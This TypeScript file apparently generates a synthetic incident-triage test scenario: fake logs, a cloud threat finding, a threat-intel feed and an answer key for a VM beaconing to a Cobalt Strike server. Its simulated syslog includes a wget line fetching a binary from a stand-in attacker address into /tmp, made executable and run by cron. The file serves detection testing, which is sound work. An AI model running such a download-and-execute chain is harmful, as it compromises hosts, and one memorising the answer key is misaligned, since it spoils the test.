import { makeEnvironment, makeVm } from "./environment.js";
import type { Expected } from "./expected.js";
import { conversation, HOUR, MINUTE } from "./kit.js";
import { LogBook } from "./log-book.js";
import { dnsQuery, syslogLine, TABLES } from "./log-entries.js";
import { addBackgroundNoise } from "./noise.js";
import { sccNotification } from "./notification.js";
import type { Rng } from "./prng.js";
import { type ScenarioDefinition, scenarioFiles } from "./scenario.js";
import { addFeedNoise, StixBundle } from "./stix.js";

const EVENT_TIME = "2025-11-26T13:08:45.390Z";
const VM_NAME = "batch-7";
const C2_IP = "203.0.113.58";
const C2_DOMAIN = "cdn-sync-update.top";

/**
 * Event Threat Detection flags a batch VM's connection to a listed address. The feed's entry
 * is a current, high-confidence Cobalt Strike C2 indicator; the VM downloaded a binary from the
 * address into /tmp, cron runs it, and from then on it calls the address every minute with
 * small, regular sessions for three hours.
 */
function build(rng: Rng): Map<string, string> {
  const T = Date.parse(EVENT_TIME);
  const vm = makeVm(rng, { name: VM_NAME, role: "etl", host: 47 });
  const env = makeEnvironment(rng, {
    projectId: "kestrel-logistics-prod",
    domain: "kestrel-logistics.com",
    vms: [vm, makeVm(rng, { name: "batch-6", role: "etl", host: 46 })],
    buckets: ["kestrel-manifests"],
  });
  const book = new LogBook();
  addBackgroundNoise(book, env, { start: T - 20 * HOUR, end: T + 5 * HOUR }, rng.fork("noise"));
  const signal = rng.fork("signal");
  const log = (time: number, program: string, message: string, pid?: number) =>
    book.add(
      TABLES.syslog,
      syslogLine(signal, { project: env.project, time, vm, program, message, ...(pid ? { pid } : {}) }),
    );
  const dl = T - 4 * MINUTE;
  book.add(
    TABLES.dns,
    dnsQuery(signal, {
      project: env.project,
      time: dl - 2_000,
      vm,
      name: C2_DOMAIN,
      answers: [C2_IP],
      ttl: 120,
    }),
  );
  log(dl, "bash", `wget http://${C2_IP}/upd -O /tmp/.cache/upd`, 20931);
  log(dl + 3_000, "bash", "chmod +x /tmp/.cache/upd", 20931);
  log(dl + 60_000, "CRON", "(batch) CMD (/tmp/.cache/upd >/dev/null 2>&1)", 21044);
  conversation(book, env, signal, {
    vm,
    localPort: 38_122,
    remoteIp: C2_IP,
    remotePort: 80,
    start: dl,
    durationMs: 8_000,
    intervalMs: 4_000,
    bytesOut: [300, 600],
    bytesIn: [180_000, 260_000],
  });
  for (let t = T; t < T + 3 * HOUR; t += 60_000 + signal.int(-2_000, 2_000))
    conversation(book, env, signal, {
      vm,
      localPort: signal.int(40_000, 60_000),
      remoteIp: C2_IP,
      remotePort: 443,
      start: t,
      durationMs: 0,
      intervalMs: 1,
      bytesOut: [400, 900],
      bytesIn: [200, 500],
    });

  const notification = sccNotification(rng.fork("finding"), env, {
    source: "eventThreatDetection",
    category: "C2: Bad IP",
    findingClass: "THREAT",
    severity: "HIGH",
    eventTime: EVENT_TIME,
    resource: {
      name: `//compute.googleapis.com/projects/${env.project.id}/zones/${vm.zone}/instances/${vm.id}`,
      type: "google.compute.Instance",
      displayName: VM_NAME,
    },
    description: "A VM instance connected to an IP address known to be used for command and control.",
    finding: {
      sourceProperties: {
        evidence: [{ sourceLogId: { projectId: env.project.id } }],
        properties: {
          ip: [C2_IP],
          instanceDetails: `/projects/${env.project.id}/zones/${vm.zone}/instances/${VM_NAME}`,
        },
      },
      mitreAttack: {
        primaryTactic: "COMMAND_AND_CONTROL",
        primaryTechniques: ["APPLICATION_LAYER_PROTOCOL"],
      },
    },
  });
  const intel = new StixBundle(rng.fork("intel"), "2025-11-01T00:00:00.000Z", "Ferret Demo Threat Feed");
  addFeedNoise(intel, rng.fork("intel-noise"), "2025-08-01T00:00:00.000Z", new Set([C2_IP]));
  const cs = intel.malware(
    "Cobalt Strike Beacon",
    ["remote-access-trojan"],
    "Beacon payload of the Cobalt Strike framework.",
  );
  const ind = intel.indicator({
    name: `Cobalt Strike team server ${C2_IP}`,
    pattern: `[ipv4-addr:value = '${C2_IP}'] OR [domain-name:value = '${C2_DOMAIN}']`,
    types: ["malicious-activity"],
    confidence: 90,
    labels: ["c2", "cobalt-strike"],
    validFrom: "2025-08-14T00:00:00.000Z",
    validUntil: "2026-08-14T00:00:00.000Z",
  });
  intel.relate(ind, "indicates", cs);

  const expected: Expected = {
    scenario: "c2-bad-ip-beacon",
    category: "C2: Bad IP",
    verdict: "true_positive",
    acceptableVerdicts: ["true_positive"],
    requiredIocs: [{ type: "ip", value: C2_IP, why: "the C2 address" }],
    requiredEvidence: [
      {
        id: "beacon",
        description: "a small session to the address every minute for three hours",
        anyOf: [C2_IP],
      },
      {
        id: "download",
        description: "a binary fetched from the address into /tmp and run by cron",
        anyOf: ["/tmp/.cache/upd"],
      },
    ],
    optionalEvidence: [{ id: "domain", description: "the domain that resolved to it", anyOf: [C2_DOMAIN] }],
    mitreTechniques: ["T1071.001", "T1105"],
    probes: [
      {
        runbook: "vpc_flows_to_ip",
        params: { ip: C2_IP },
        window: { hoursBefore: 1, hoursAfter: 4 },
        expect: [VM_NAME, "443"],
        why: "the beacon's regular sessions",
      },
      {
        runbook: "host_syslog_search",
        params: { instance: VM_NAME, term: "/tmp/" },
        window: { hoursBefore: 1, hoursAfter: 1 },
        expect: [`wget http://${C2_IP}/upd`],
        why: "the download and the cron job",
      },
    ],
    story: `${VM_NAME} downloaded /tmp/.cache/upd from ${C2_IP} (${C2_DOMAIN}), cron runs it, and it beacons to ${C2_IP}:443 every minute; the feed lists the address as a current Cobalt Strike team server at confidence 90.`,
  };
  return scenarioFiles({ notification, intel, expected, logs: book });
}

export const c2BadIpBeacon: ScenarioDefinition = {
  name: "c2-bad-ip-beacon",
  seed: "ferret/c2-bad-ip-beacon/v1",
  build,
};
